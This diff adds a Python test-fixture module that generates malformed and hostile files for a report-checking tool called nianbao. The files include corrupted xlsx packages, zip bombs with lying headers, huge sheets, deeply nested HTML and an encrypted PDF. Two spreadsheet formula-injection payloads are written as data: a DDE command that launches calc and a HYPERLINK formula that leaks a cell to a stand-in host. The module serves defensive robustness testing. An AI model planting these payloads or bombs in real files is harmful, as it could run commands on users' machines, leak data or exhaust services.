@@ -1,0 +1,358 @@
+"""Broken and hostile inputs, generated (no bombs are checked in): what offices and web pages send.
+
+Each maker takes a good filled template and a folder, writes one file and returns it. ``CASES``
+says, for each, what nianbao must answer: the file fails with a reason containing ``reason``, or
+it is checked (``reason`` None) with the finding ``rule`` where one is expected. The test suite
+and ``benchmarks/hostile.py`` both use them.
+"""
+
+from __future__ import annotations
+
+import re
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from nianbao.layout import form_layout
+from nianbao.spec import load_spec
+
+SPEC = load_spec("2021")
+LAYOUT = form_layout(SPEC)
+NEW_NATURAL = LAYOUT.inputs["t3.new.natural"]
+YEAR = LAYOUT.inputs["meta.year"]
+INJECTION = "=cmd|' /C calc'!A0"
+HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
+
+
+def _part(book: Path, sheet: str) -> str:
+    """The zip member that holds ``sheet``."""
+    with zipfile.ZipFile(book) as z:
+        workbook, rels = z.read("xl/workbook.xml").decode(), z.read("xl/_rels/workbook.xml.rels").decode()
+    rid = re.search(rf'<sheet name="{re.escape(sheet)}" sheetId="\d+" r:id="(rId\d+)"', workbook).group(1)
+    return "xl/" + re.search(rf'Id="{rid}"[^>]*Target="([^"]+)"', rels).group(1).lstrip("/").removeprefix("xl/")
+
+
+def rewrite(src: Path, dest: Path, edits: dict[str, Callable[[bytes], bytes] | None], extra: dict[str, bytes] | None = None) -> Path:
+    """Copy a zip package, changing members (None drops one) and adding ``extra`` ones."""
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            if info.filename in edits and edits[info.filename] is None:
+                continue
+            data = zin.read(info)
+            zout.writestr(info.filename, edits[info.filename](data) if info.filename in edits else data)
+        for name, data in (extra or {}).items():
+            zout.writestr(name, data)
+    return dest
+
+
+def _set_cell_xml(address: str, xml: str) -> Callable[[bytes], bytes]:
+    """Replace one cell's XML element."""
+    def edit(data: bytes) -> bytes:
+        new, n = re.subn(rf'<c r="{address}"[^>]*?(?:/>|>.*?</c>)'.encode(), xml.encode(), data, count=1, flags=re.S)
+        assert n == 1, address
+        return new
+    return edit
+
+
+def _with_cells(good: Path, dest: Path, cells: dict) -> Path:
+    """The good workbook with input cells set by openpyxl (text stays text)."""
+    wb = load_workbook(good)
+    for key, value in cells.items():
+        cell = LAYOUT.inputs[key]
+        target = wb[cell.sheet][cell.address]
+        target.value = value
+        if isinstance(value, str):
+            target.data_type = "s"
+    wb.save(dest)
+    return dest
+
+
+# --- metadata, names, merged cells ------------------------------------------------------------
+
+def _meta(value: str):
+    def make(good: Path, folder: Path) -> Path:
+        wb = load_workbook(good)
+        meta = wb["_nianbao"]
+        row = next(r for r in meta.iter_rows() if r[0].value == "template_version")
+        row[1].value = value
+        out = folder / f"version-{re.sub(r'[^a-z0-9]', '', value)}.xlsx"
+        wb.save(out)
+        return out
+    return make
+
+
+def single_quoted_names(good: Path, folder: Path) -> Path:
+    return rewrite(good, folder / "single-quotes.xlsx",
+                   {"xl/workbook.xml": lambda d: re.sub(rb'<definedName name="([^"]+)"', rb"<definedName name='\1'", d)})
+
+
+def merged_over_finding(good: Path, folder: Path) -> Path:
+    """A user merged the cell holding a finding into its left neighbour."""
+    wb = load_workbook(good)
+    ws = wb[NEW_NATURAL.sheet]
+    ws[NEW_NATURAL.address].value = None
+    ws.merge_cells(start_row=NEW_NATURAL.row + 1, start_column=NEW_NATURAL.col, end_row=NEW_NATURAL.row + 1, end_column=NEW_NATURAL.col + 1)
+    out = folder / "merged.xlsx"
+    wb.save(out)
+    return out
+
+
+# --- values no report holds -------------------------------------------------------------------
+
+def digits(n: int):
+    def make(good: Path, folder: Path) -> Path:
+        return _with_cells(good, folder / f"digits-{n}.xlsx", {"t3.new.natural": "1" * n})
+    return make
+
+
+def float_cell(key: str, text: str):
+    """A number cell whose stored value is ``text`` (NaN, INF, 1e300): Excel never writes these,
+    other programs do."""
+    cell = LAYOUT.inputs[key]
+
+    def make(good: Path, folder: Path) -> Path:
+        name = f"{key.split('.')[-1]}-{text.lower().replace('+', '')}.xlsx"
+        return rewrite(good, folder / name, {_part(good, cell.sheet): _set_cell_xml(cell.address, f'<c r="{cell.address}" t="n"><v>{text}</v></c>')})
+    return make
+
+
+def cached_error(good: Path, folder: Path) -> Path:
+    cell = NEW_NATURAL
+    xml = f'<c r="{cell.address}" t="e"><f>#REF!+1</f><v>#REF!</v></c>'
+    return rewrite(good, folder / "cached-ref.xlsx", {_part(good, cell.sheet): _set_cell_xml(cell.address, xml)})
+
+
+def injected_count(good: Path, folder: Path) -> Path:
+    return _with_cells(good, folder / "injected.xlsx", {"t3.new.natural": INJECTION})
+
+
+def injected_office(good: Path, folder: Path) -> Path:
+    return _with_cells(good, folder / "office.xlsx", {"meta.office": HYPERLINK, "t3.new.natural": "十五"})
+
+
+# --- damaged packages ---------------------------------------------------------------------------
+
+def bad_crc(good: Path, folder: Path) -> Path:
+    """One byte of a sheet's compressed data changed: the checksum no longer matches."""
+    out = folder / "bad-crc.xlsx"
+    data = bytearray(good.read_bytes())
+    with zipfile.ZipFile(good) as z:
+        info = z.getinfo(_part(good, NEW_NATURAL.sheet))
+    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26: info.header_offset + 30])
+    start = info.header_offset + 30 + name_len + extra_len
+    data[start + info.compress_size // 2] ^= 0x55
+    out.write_bytes(bytes(data))
+    return out
+
+
+def no_content_types(good: Path, folder: Path) -> Path:
+    return rewrite(good, folder / "no-content-types.xlsx", {"[Content_Types].xml": None})
+
+
+def no_styles(good: Path, folder: Path) -> Path:
+    return rewrite(good, folder / "no-styles.xlsx", {"xl/styles.xml": None})
+
+
+def truncated_sheet(good: Path, folder: Path) -> Path:
+    return rewrite(good, folder / "truncated-sheet.xlsx", {_part(good, NEW_NATURAL.sheet): lambda d: d[: len(d) // 2]})
+
+
+def truncated_file(good: Path, folder: Path) -> Path:
+    out = folder / "truncated-file.xlsx"
+    out.write_bytes(good.read_bytes()[: good.stat().st_size * 2 // 3])
+    return out
+
+
+# --- bombs --------------------------------------------------------------------------------------
+
+def _deflated(size: int, head: bytes = b"", filler: bytes = b" ") -> tuple[bytes, int]:
+    """A raw deflate stream of ``head`` and then ``filler`` up to ``size`` bytes, made in chunks."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    chunk = filler * ((1 << 20) // len(filler))
+    parts, crc, done = [packer.compress(head)], zlib.crc32(head), len(head)
+    while done < size:
+        piece = chunk[: size - done]
+        parts.append(packer.compress(piece))
+        crc, done = zlib.crc32(piece, crc), done + len(piece)
+    parts.append(packer.flush())
+    return b"".join(parts), crc
+
+
+def bomb(good: Path, dest: Path, member: str, size: int, declared: int | None = None) -> Path:
+    """``good`` with ``member`` replaced by one that inflates to ``size`` bytes (XML text, then
+    spaces). With ``declared``, its headers claim that smaller size (a lying bomb)."""
+    with zipfile.ZipFile(good) as z:
+        head = z.read(member)[:200] if member in z.namelist() else b"<?xml version='1.0'?>"
+    stream, crc = _deflated(size, head)
+    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            if info.filename != member:
+                zout.writestr(info, zin.read(info))
+    # Append the bomb member by hand: zipfile cannot write a stream it did not deflate itself.
+    data = bytearray(dest.read_bytes())
+    eocd = data.rindex(b"PK\x05\x06")
+    entries, cd_size, cd_offset = struct.unpack("<HII", data[eocd + 10: eocd + 20])
+    central, tail = data[cd_offset: cd_offset + cd_size], data[eocd:]
+    name = member.encode()
+    claimed = declared if declared is not None else size
+    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(stream), claimed, len(name), 0) + name
+    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(stream), claimed, len(name), 0, 0, 0, 0, 0,
+                        cd_offset) + name
+    body = bytes(data[:cd_offset]) + local + stream
+    central_dir = bytes(central) + entry
+    tail = bytearray(tail)
+    struct.pack_into("<HHII", tail, 8, entries + 1, entries + 1, len(central_dir), len(body))
+    dest.write_bytes(body + central_dir + bytes(tail))
+    return dest
+
+
+def _bomb(member: str, size: int = 1 << 30, declared: int | None = None, suffix: str = "xlsx"):
+    def make(good: Path, folder: Path) -> Path:
+        source = good if suffix == "xlsx" else folder / "report.docx"
+        if suffix == "docx":
+            _docx(source)
+        tag = re.sub(r"\W", "-", member.rsplit("/", 1)[-1])
+        return bomb(source, folder / f"bomb-{tag}{'-lying' if declared else ''}.{suffix}", member, size, declared)
+    return make
+
+
+def _docx(path: Path) -> Path:
+    import docx
+
+    document = docx.Document()
+    document.add_paragraph("示例县人民政府办公室2025年政府信息公开工作年度报告")
+    document.save(path)
+    return path
+
+
+def million_rows(good: Path, folder: Path) -> Path:
+    """A sheet of 1,000,000 rows (about 30 MB of XML, 1 MB zipped) in the 说明 sheet."""
+    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 1_000_001))
+    xml = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + rows + b"</sheetData></worksheet>"
+    return rewrite(good, folder / "million-rows.xlsx", {_part(good, "说明"): lambda _: xml})
+
+
+def far_cell(good: Path, folder: Path) -> Path:
+    """One cell at XFD1048576: the sheet spans 17 billion cells."""
+    return rewrite(good, folder / "far-cell.xlsx", {
+        _part(good, "说明"): lambda d: d.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')})
+
+
+def many_sheets(n: int = 10_000):
+    def make(good: Path, folder: Path) -> Path:
+        sheets = "".join(f'<sheet name="x{i}" sheetId="{1000 + i}" r:id="rIdX{i}"/>' for i in range(n))
+        rels = "".join(f'<Relationship Id="rIdX{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
+                       f'Target="worksheets/x{i}.xml"/>' for i in range(n))
+        empty = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
+        return rewrite(good, folder / f"sheets-{n}.xlsx", {
+            "xl/workbook.xml": lambda d: d.replace(b"</sheets>", sheets.encode() + b"</sheets>"),
+            "xl/_rels/workbook.xml.rels": lambda d: d.replace(b"</Relationships>", rels.encode() + b"</Relationships>"),
+        }, {f"xl/worksheets/x{i}.xml": empty for i in range(n)})
+    return make
+
+
+# --- published reports --------------------------------------------------------------------------
+
+def nested_html(depth: int, closed: bool = True):
+    def make(good: Path, folder: Path) -> Path:
+        out = folder / f"nested-{depth}{'' if closed else '-open'}.html"
+        opening, closing = "<table><tr><td>" * depth, "</td></tr></table>" * depth if closed else ""
+        out.write_text(f"<html><body><p>示例县2025年政府信息公开工作年度报告</p>{opening}x{closing}</body></html>", encoding="utf-8")
+        return out
+    return make
+
+
+def huge_text(good: Path, folder: Path) -> Path:
+    out = folder / "huge.txt"
+    with out.open("wb") as fh:
+        line = "一、本年新收政府信息公开申请数量 1 0 0 0 0 0 1\n".encode()
+        for _ in range((100 << 20) // len(line) + 1):
+            fh.write(line)
+    return out
+
+
+def big5_page(good: Path, folder: Path) -> Path:
+    """A traditional-character page in Big5 that does not declare its charset."""
+    out = folder / "big5.html"
+    text = "<html><body><h1>臺北市萬華區公所2025年政府信息公開工作年度報告</h1><p>一、總體情況</p></body></html>"
+    out.write_bytes(text.encode("big5"))
+    return out
+
+
+def injected_report(good: Path, folder: Path) -> Path:
+    out = folder / "injected-report.txt"
+    seed = Path(__file__).resolve().parents[1] / "rules" / "reports" / "jianxi-2019.txt"
+    text = seed.read_text(encoding="utf-8")
+    out.write_text(text.replace("一、总体情况\n", f"一、总体情况\n{HYPERLINK}\n", 1), encoding="utf-8")
+    return out
+
+
+def encrypted_pdf(good: Path, folder: Path) -> Path:
+    """A PDF with the standard security handler and an unknown user password."""
+    out = folder / "encrypted.pdf"
+    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+               b"<< /Filter /Standard /V 1 /R 2 /O <" + b"11" * 32 + b"> /U <" + b"22" * 32 + b"> /P -4 >>"]
+    body, offsets = b"%PDF-1.4\n", []
+    for n, obj in enumerate(objects, 1):
+        offsets.append(len(body))
+        body += b"%d 0 obj\n" % n + obj + b"\nendobj\n"
+    xref = len(body)
+    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    body += (b"trailer\n<< /Size %d /Root 1 0 R /Encrypt 4 0 R /ID [<" % (len(objects) + 1) + b"ab" * 16 + b"><" + b"ab" * 16
+             + b">] >>\nstartxref\n%d\n%%%%EOF\n" % xref)
+    out.write_bytes(body)
+    return out
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    make: Callable[[Path, Path], Path]
+    reason: str | None = None  # the file fails with a reason containing this; None: it is checked
+    rule: str | None = None  # a finding the checked file must have
+    office: str | None = None  # the office the checked file must name
+    bomb: bool = False  # measured by benchmarks/hostile.py
+
+
+CASES = [
+    Case("version-abc", _meta("abc"), "模板版本"),
+    Case("version-nan", _meta("nan"), "模板版本"),
+    Case("version-1e999", _meta("1e999"), "模板版本"),
+    Case("single-quoted-names", single_quoted_names),
+    Case("merged-over-finding", merged_over_finding, rule="C001"),
+    Case("digits-401", digits(401), rule="C013"),
+    Case("digits-100000", digits(100_000), rule="C013"),
+    Case("count-nan", float_cell("t3.new.natural", "NaN"), rule="C013"),
+    Case("count-inf", float_cell("t3.new.natural", "INF"), rule="C013"),
+    Case("count-1e300", float_cell("t3.new.natural", "1E+300"), rule="C013"),
+    Case("year-nan", float_cell("meta.year", "NaN"), rule="C013"),
+    Case("year-1e300", float_cell("meta.year", "1E+300"), rule="C013"),
+    Case("cached-ref", cached_error, rule="C012"),
+    Case("injected-count", injected_count, rule="C005"),
+    Case("injected-office", injected_office, rule="C005"),
+    Case("bad-crc", bad_crc, "文件已损坏"),
+    Case("no-content-types", no_content_types, "文件已损坏"),
+    Case("no-styles", no_styles),
+    Case("truncated-sheet", truncated_sheet, "文件已损坏"),
+    Case("truncated-file", truncated_file, "文件已损坏"),
+    Case("bomb-sheet", _bomb("xl/worksheets/sheet1.xml"), "超出处理上限", bomb=True),
+    Case("bomb-workbook", _bomb("xl/workbook.xml"), "超出处理上限", bomb=True),
+    Case("bomb-shared-strings", _bomb("xl/sharedStrings.xml"), "超出处理上限", bomb=True),
+    Case("bomb-lying-header", _bomb("xl/worksheets/sheet1.xml", declared=20_000), "超出处理上限", bomb=True),
+    Case("bomb-docx", _bomb("word/document.xml", suffix="docx"), "超出处理上限", bomb=True),
+    Case("million-rows", million_rows, "超出处理上限", bomb=True),
+    Case("far-cell", far_cell, "超出处理上限", bomb=True),
+    Case("sheets-10000", many_sheets(), "超出处理上限", bomb=True),
+    Case("nested-html-1000", nested_html(1000), rule="I001", bomb=True),  # checked: its tables are not found
+    Case("nested-html-100000-open", nested_html(100_000, closed=False), rule="I001", bomb=True),
+    Case("text-100mb", huge_text, "超出处理上限", bomb=True),
+    Case("big5-page", big5_page, office="臺北市萬華區公所"),
+    Case("injected-report", injected_report),
+    Case("encrypted-pdf", encrypted_pdf, "密码"),
+]
